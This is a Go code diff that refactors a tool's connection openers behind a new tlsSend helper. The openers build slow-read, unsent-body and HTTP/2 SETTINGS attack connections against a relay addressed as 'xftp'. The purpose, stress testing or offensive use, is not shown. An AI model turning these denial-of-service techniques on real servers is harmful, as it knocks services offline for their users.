@@ -201,6 +201,19 @@ func tlsFrom(ctx context.Context, addr string, src net.IP, proto string, rcvbuf 
 	return c, nil
 }
 
+// tlsSend opens a TLS connection as tlsFrom does and writes first on it.
+func tlsSend(ctx context.Context, addr string, src net.IP, proto string, rcvbuf int, first string) (net.Conn, error) {
+	c, err := tlsFrom(ctx, addr, src, proto, rcvbuf)
+	if err != nil {
+		return nil, err
+	}
+	if _, err := io.WriteString(c, first); err != nil {
+		c.Close()
+		return nil, err
+	}
+	return c, nil
+}
+
 // readUntilClosed returns a channel closed once a read from c fails (the
 // relay closed it, or we did), discarding what it reads.
 func readUntilClosed(c io.Reader) chan struct{} {
@@ -213,12 +226,8 @@ func readUntilClosed(c io.Reader) chan struct{} {
 }
 
 func openSlowRead(ctx context.Context, o attackOrder, src net.IP) (*attackConn, error) {
-	c, err := tlsFrom(ctx, o.Addr, src, "http/1.1", 4096)
+	c, err := tlsSend(ctx, o.Addr, src, "http/1.1", 4096, "GET /d/xftp.wasm HTTP/1.1\r\nHost: xftp\r\n\r\n")
 	if err != nil {
-		return nil, err
-	}
-	if _, err := io.WriteString(c, "GET /d/xftp.wasm HTTP/1.1\r\nHost: xftp\r\n\r\n"); err != nil {
-		c.Close()
 		return nil, err
 	}
 	// Reading would defeat the attack: whether the relay cut the
@@ -227,12 +236,8 @@ func openSlowRead(ctx context.Context, o attackOrder, src net.IP) (*attackConn, 
 }
 
 func openNoBody(ctx context.Context, o attackOrder, src net.IP) (*attackConn, error) {
-	c, err := tlsFrom(ctx, o.Addr, src, "http/1.1", 0)
+	c, err := tlsSend(ctx, o.Addr, src, "http/1.1", 0, "GET /healthz HTTP/1.1\r\nHost: xftp\r\nContent-Length: 8192\r\n\r\n")
 	if err != nil {
-		return nil, err
-	}
-	if _, err := io.WriteString(c, "GET /healthz HTTP/1.1\r\nHost: xftp\r\nContent-Length: 8192\r\n\r\n"); err != nil {
-		c.Close()
 		return nil, err
 	}
 	return &attackConn{c: c, done: readUntilClosed(c)}, nil
@@ -249,16 +254,12 @@ func openConnFlood(ctx context.Context, o attackOrder, src net.IP) (*attackConn,
 // h2Open opens an HTTP/2 connection from src with the given SETTINGS and
 // returns it with its framer.
 func h2Open(ctx context.Context, o attackOrder, src net.IP, settings ...http2.Setting) (net.Conn, *http2.Framer, error) {
-	c, err := tlsFrom(ctx, o.Addr, src, "h2", 0)
+	c, err := tlsSend(ctx, o.Addr, src, "h2", 0, http2.ClientPreface)
 	if err != nil {
 		return nil, nil, err
 	}
 	fr := http2.NewFramer(c, c)
-	_, err = io.WriteString(c, http2.ClientPreface)
-	if err == nil {
-		err = fr.WriteSettings(settings...)
-	}
-	if err != nil {
+	if err := fr.WriteSettings(settings...); err != nil {
 		c.Close()
 		return nil, nil, err
 	}
